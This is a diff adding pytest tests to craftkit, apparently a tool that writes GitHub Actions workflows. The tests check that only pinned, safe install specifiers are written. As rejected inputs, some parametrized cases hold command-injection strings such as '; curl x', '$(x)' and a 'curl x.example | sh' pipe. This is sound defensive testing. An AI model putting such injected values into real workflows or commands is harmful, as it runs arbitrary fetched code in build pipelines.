@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import re
+import shlex
 import shutil
 import subprocess
 from pathlib import Path
@@ -15,7 +17,7 @@ import yaml
 
 from craftkit.cli import main
 from craftkit.errors import UsageProblem
-from craftkit.workflow import schedule, timetables
+from craftkit.workflow import requirement, schedule, timetables
 
 CRONTAB = """\
 #!/bin/sh
@@ -59,6 +61,7 @@ class Place:
         self.tool("systemctl", SYSTEMCTL)
         self.path = f"{self.bin}:{os.environ['PATH']}"
         self.table = self.bin / "table"
+        self.origin = "craftkit==1.2.3"  # what this craftkit was installed from
         self.workflow = self.repo / ".github/workflows/craftkit.yml"
         self.units = self.config / "systemd/user"
         git(self.repo, "init", "-q", "--template=", "-b", "trunk")
@@ -74,6 +77,7 @@ class Place:
         env = {"PATH": self.path, "HOME": str(self.home), "XDG_CONFIG_HOME": str(self.config)} | env
         with pytest.MonkeyPatch.context() as patch:
             patch.chdir(self.repo)
+            patch.setattr(requirement, "of_this_installation", lambda: self.origin)
             for name, value in env.items():
                 patch.setenv(name, value)
             code = main(args)
@@ -384,7 +388,7 @@ def test_the_workflow(place: Place) -> None:
     assert steps[0]["with"] == {"persist-credentials": "false"}
     assert {"python-version": "3.11"} in [step.get("with") for step in steps]
     assert [step["run"] for step in steps if "run" in step] == [
-        "pip install craftkit",
+        "pip install craftkit==1.2.3",
         "craftkit reconcile --job",
     ]
     assert [s["env"] for s in steps if "env" in s] == [{"GH_TOKEN": "${{ github.token }}"}]
@@ -504,3 +508,201 @@ def test_actionlint_finds_nothing(place: Place) -> None:
         path.write_text(place.workflow.read_text())
     paths[2].write_text(paths[2].read_text().replace("github.token", "github.tokken"))
     assert lint(place, *paths) == {"wrong.yml"}
+
+
+# What the workflow installs
+
+PINNED = "git+https://github.com/octo-dev/craftkit@v1.2"
+NAMED = f"craftkit[mcp] @ {PINNED}#subdirectory=tools&egg=x"
+WHEEL = "https://files.example.com/craftkit-1.2-py3-none-any.whl#sha256=00ff"
+GIVEN = (PINNED, NAMED, WHEEL, "craftkit==1.2.3", "./wheels/craftkit-1.2.whl", ".")
+
+
+def steps(place: Place) -> list[str]:
+    found = yaml.load(place.workflow.read_text(), Loader=yaml.BaseLoader)  # noqa: S506
+    return [s["run"] for s in found["jobs"]["reconcile"]["steps"] if "run" in s]
+
+
+@pytest.mark.parametrize("given", GIVEN)
+def test_the_workflow_installs_what_is_said(place: Place, given: str) -> None:
+    place.origin = ""
+    assert place.do("install", "github-actions", "--install", given)["changed"] is True
+    assert shlex.split(steps(place)[0]) == ["pip", "install", given]
+    assert requirement.read(place.workflow.read_text()) == given
+    before = place.everything()
+    for more in (["--install", given], []):
+        assert place.do("install", "github-actions", *more)["changed"] is False
+    assert place.do("install", "github-actions", "--every", "60")["changed"] is True
+    place.do("install", "github-actions")
+    assert place.everything() == before
+    other = next(text for text in GIVEN if text != given)
+    assert place.do("install", "github-actions", "--install", other)["changed"] is True
+    assert shlex.split(steps(place)[0])[2] == other
+    assert place.do("remove", "github-actions")["changed"] is True
+    assert not place.workflow.exists()
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        *("", " ", "craftkit", "craftkit>=1", "-r x.txt", "--index-url=https://x.example/", "-e ."),
+        *("craftkit==1; curl x", "craftkit==1 && x", "craftkit==1\ny", "craftkit==${{ x }}"),
+        *("git+https://github.com/o/r@`x`", "git+https://github.com/o/r@$(x)", "a @ b @ c"),
+        *("git+https://github.com/o/r@'x'", 'git+https://github.com/o/r@"x"', "craftkit  ==1"),
+        *("http://x.example/a.whl", "file:///a.whl", "/a.whl", "../a.whl", "./../a.whl", "a#b"),
+        *("https://user:pw@x.example/a.whl", "https://tok@x.example/a.whl", "ftp://x.example/a"),
+        *("git+https://github.com/OWNER/craftkit@TAG", requirement.PLACEHOLDER, "x" * 600),
+        *("craftkit @  https://x.example/a", "craftkit@https://x.example/a b", "craftkit==\u202e1"),
+    ],
+)
+def test_what_must_not_get_into_a_workflow(place: Place, given: str) -> None:
+    for verb in ("install", "print"):
+        words = ("schedule", verb, "--target", "github-actions", "--install", given)
+        code, _, err = place(*words)
+        assert code == 2 and "hint:" in err and ":pw@" not in err
+    assert not place.workflow.exists()
+
+
+def test_what_nobody_else_can_install_is_refused(place: Place) -> None:
+    place.origin = ""
+    code, _, err = place("schedule", "install", "--target", "github-actions")
+    assert code == 2 and "hint:" in err and "--install git+https://" in err
+    assert not place.workflow.exists()
+    code, text, err = place("schedule", "print", "--target", "github-actions")
+    assert code == 0 and "example.invalid" in text and "placeholder" in err and "hint:" in err
+    # What was printed and put there all the same is known, but never kept.
+    place.workflow.parent.mkdir(parents=True)
+    place.workflow.write_text(text)
+    assert place.do("status", "github-actions")["schedules"][0]["state"] == "installed"
+    assert place("schedule", "install", "--target", "github-actions")[0] == 2
+    assert place.do("install", "github-actions", "--install", PINNED)["changed"] is True
+
+
+def legacy(place: Place) -> None:
+    """The file as an older craftkit wrote it: with its seal, and a name that nobody owns."""
+    place.do("install", "github-actions")
+    text = place.workflow.read_text().replace("craftkit==1.2.3", "craftkit")
+    seal = hashlib.sha256(text.split("\n", 2)[2].encode()).hexdigest()[:16]
+    assert f"# seal {seal} made" in text
+    place.workflow.write_text(text)
+
+
+def test_a_file_of_an_older_craftkit_is_ours_and_its_name_is_not_kept(place: Place) -> None:
+    legacy(place)
+    assert place.do("status", "github-actions")["schedules"][0]["state"] == "installed"
+    place.origin = ""
+    code, _, err = place("schedule", "install", "--target", "github-actions")
+    assert code == 2 and "--install" in err
+    place.do("install", "github-actions", "--install", PINNED)
+    assert steps(place)[0] == f"pip install {PINNED}"
+    legacy_free = place.workflow.read_text()
+    assert "pip install craftkit\n" not in legacy_free
+
+
+def test_a_line_that_somebody_corrected_is_no_change(place: Place) -> None:
+    legacy(place)
+    text = place.workflow.read_text()
+    place.workflow.write_text(text.replace("install craftkit\n", f"install '{PINNED}'\n"))
+    assert place.do("status", "github-actions")["schedules"][0]["state"] == "installed"
+    place.do("install", "github-actions")
+    assert steps(place)[0] == f"pip install {PINNED}"
+    place.do("remove", "github-actions")
+    assert not place.workflow.exists()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "pip install craftkit==1.2.3 && curl x.example | sh",
+        "pip install craftkit==1.2.3 other==1",
+        "pip install -r requirements.txt",
+        "pip install craftkit==1.2.3\n      - run: pip install other==1",
+        "pip install craftkit==1.2.3 # mine",
+        "pipx install craftkit==1.2.3",
+    ],
+)
+@pytest.mark.parametrize("verb", ["install", "remove"])
+def test_any_other_change_is_a_change(place: Place, line: str, verb: str) -> None:
+    place.do("install", "github-actions")
+    text = place.workflow.read_text().replace("pip install craftkit==1.2.3", line)
+    place.workflow.write_text(text)
+    assert place.do("status", "github-actions")["schedules"][0]["state"] == "changed"
+    more = ["--install", PINNED] if verb == "install" else []
+    code, _, err = place("schedule", verb, "--target", "github-actions", *more)
+    assert code == 2 and "left alone" in err and place.workflow.read_text() == text
+
+
+@pytest.mark.parametrize("target", ["cron", "systemd", "git-hooks"])
+def test_other_targets_install_nothing(place: Place, target: str) -> None:
+    before = place.everything()
+    for verb in ("install", "print"):
+        code, _, err = place("schedule", verb, "--target", target, "--install", PINNED)
+        assert code == 2 and "--install" in err and "hint:" in err
+    assert place.everything() == before
+
+
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+
+
+@pytest.mark.parametrize(
+    ("url", "said"),
+    [
+        (None, "craftkit==1.2"),
+        (
+            {"url": "https://github.com/o/c.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
+            f"craftkit @ git+https://github.com/o/c.git@{COMMIT}",
+        ),
+        (
+            {
+                "url": "https://github.com/o/c",
+                "vcs_info": {"vcs": "git", "commit_id": COMMIT},
+                "subdirectory": "py",
+            },
+            f"craftkit @ git+https://github.com/o/c@{COMMIT}#subdirectory=py",
+        ),
+        (
+            {
+                "url": "https://x.example/craftkit-1.2-py3-none-any.whl",
+                "archive_info": {"hashes": {"sha256": "00ff"}},
+            },
+            "craftkit @ https://x.example/craftkit-1.2-py3-none-any.whl#sha256=00ff",
+        ),
+        ({"url": "file:///home/me/craftkit", "dir_info": {}}, ""),
+        ({"url": "file:///home/me/craftkit", "dir_info": {"editable": True}}, ""),
+        ({"url": "file:///home/me/craftkit.whl", "archive_info": {}}, ""),
+        ({"url": "https://t@x.example/c.whl", "archive_info": {}}, ""),
+        ({"url": "https://x.example/c.whl?$(x)", "archive_info": {}}, ""),
+        ({"url": "ssh://git@h/o/c", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}, ""),
+        ({"url": "https://h/o/c", "vcs_info": {"vcs": "git", "commit_id": "x' y"}}, ""),
+        ({"url": "https://h/o/c", "vcs_info": {"vcs": "hg", "commit_id": COMMIT}}, ""),
+        ([], ""),
+        ("{", ""),
+    ],
+)
+def test_where_this_craftkit_is_from(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, url: Any, said: str
+) -> None:
+    import craftkit
+
+    info = tmp_path / "craftkit-1.2.dist-info"
+    info.mkdir()
+    (tmp_path / "craftkit").symlink_to(craftkit.__path__[0])
+    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: craftkit\nVersion: 1.2\n")
+    monkeypatch.syspath_prepend(str(tmp_path))
+    assert requirement.of_this_installation() == ""  # left by a build: there is no RECORD
+    (info / "RECORD").write_text("")
+    if url is not None:
+        text = url if isinstance(url, str) else json.dumps(url)
+        (info / "direct_url.json").write_text(text)
+    assert requirement.of_this_installation() == said
+
+
+def test_metadata_of_another_craftkit_says_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    info = tmp_path / "craftkit-1.2.dist-info"
+    info.mkdir()
+    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: craftkit\nVersion: 1.2\n")
+    (info / "RECORD").write_text("")
+    monkeypatch.syspath_prepend(str(tmp_path))
+    assert requirement.of_this_installation() == ""
